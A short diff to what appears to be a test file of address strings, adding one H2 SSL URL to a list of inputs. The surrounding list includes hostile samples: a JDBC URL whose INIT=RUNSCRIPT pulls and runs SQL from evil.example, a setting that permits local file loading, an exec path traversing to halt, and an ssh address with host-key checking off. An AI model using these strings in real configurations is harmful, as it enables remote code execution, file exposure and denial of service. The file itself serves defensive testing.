@@ -36,6 +36,7 @@ class AddressTests {
                 "ssh://crew.example?host-key=none",
                 "ssh://maren@crew.example?host-key=SHA256:uNiVztksCsDhcc0u9e8BrTfVvS3jKPyKpPgVbWM3dTc",
                 "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
+                "jdbc:h2:ssl://pay.example:9092/pay",
                 "jdbc:other://h?allowLoadLocalInfile=true",
                 "exec:count-words",
                 "exec:/usr/bin/../sbin/halt",
